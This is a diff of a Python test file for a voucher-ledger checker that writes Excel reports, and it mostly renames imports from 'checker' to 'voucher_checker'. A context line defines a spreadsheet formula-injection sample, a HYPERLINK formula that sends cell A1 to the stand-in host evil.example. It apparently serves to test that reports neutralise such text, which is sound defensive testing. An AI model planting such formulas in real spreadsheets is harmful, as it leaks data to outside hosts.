@@ -12,13 +12,13 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from checker.engine import FINDING_COLUMNS, empty_findings, no_findings, run_rules
-from checker.model import DataError, ReadResult, ScanResult, SheetInfo
-from checker.policy import Policy
-from checker.registry import Rule
-from checker.report import FINDING_HEADERS, REVIEW_HEADERS, inert_text, rows_label, write_findings_csv, write_report
-from checker.schema import empty_ledger
-from checker.testing import ledger_from_rows
+from voucher_checker.engine import FINDING_COLUMNS, empty_findings, no_findings, run_rules
+from voucher_checker.model import DataError, ReadResult, ScanResult, SheetInfo
+from voucher_checker.policy import Policy
+from voucher_checker.registry import Rule
+from voucher_checker.report import FINDING_HEADERS, REVIEW_HEADERS, inert_text, rows_label, write_findings_csv, write_report
+from voucher_checker.schema import empty_ledger
+from voucher_checker.testing import ledger_from_rows
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 STARTED = dt.datetime(2024, 5, 6, 9, 30, 15)
@@ -403,7 +403,7 @@ def test_summary_ranks_communities_with_their_books_beneath(wb):
 
 
 def test_communities_are_ordered_by_most_serious_finding_then_count_then_amount():
-    from checker.report.summary import GroupFigures
+    from voucher_checker.report.summary import GroupFigures
     from collections import Counter
 
     def figures(name, counts, amount):
@@ -577,7 +577,7 @@ def test_no_row_reaches_excels_height_limit(wb, title):
 
 
 def test_wrapped_rows_are_tall_enough_for_their_text(wb):
-    from checker.report.common import line_count
+    from voucher_checker.report.common import line_count
     ws = wb["问题清单"]
     col = _column(ws, "问题说明及依据")
     width = ws.column_dimensions[openpyxl.utils.get_column_letter(col)].width
@@ -614,8 +614,8 @@ def test_workbook_xml_is_well_formed(report):
 def test_report_module_imports_no_private_name():
     import ast
     from pathlib import Path
-    import checker.report
-    for path in Path(checker.report.__file__).parent.glob("*.py"):
+    import voucher_checker.report
+    for path in Path(voucher_checker.report.__file__).parent.glob("*.py"):
         tree = ast.parse(path.read_text(encoding="utf-8"))
         for node in ast.walk(tree):
             if isinstance(node, ast.ImportFrom) and node.level == 0:
@@ -678,7 +678,7 @@ def test_empty_scan_still_writes_every_sheet(tmp_path):
 
 
 def test_links_beyond_excels_limit_are_formulas(scan, tmp_path, monkeypatch):
-    from checker.report import common
+    from voucher_checker.report import common
     monkeypatch.setattr(common, "MAX_SHEET_LINKS", 1)
     write_report(scan, tmp_path / "r.xlsx")
     ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["问题清单"]
@@ -728,7 +728,7 @@ def test_odd_text_is_kept_exactly(tmp_path):
 def test_detail_lines_are_found_by_line_and_voucher_id():
     """The flagged vouchers' lines are looked up without scanning the ledger's text; the result is
     the same as selecting by voucher_key, also for findings that do not match the ledger."""
-    from checker.report.detail import voucher_line_positions
+    from voucher_checker.report.detail import voucher_line_positions
 
     scan = _odd_scan()
     ledger, findings = scan.ledger, scan.findings
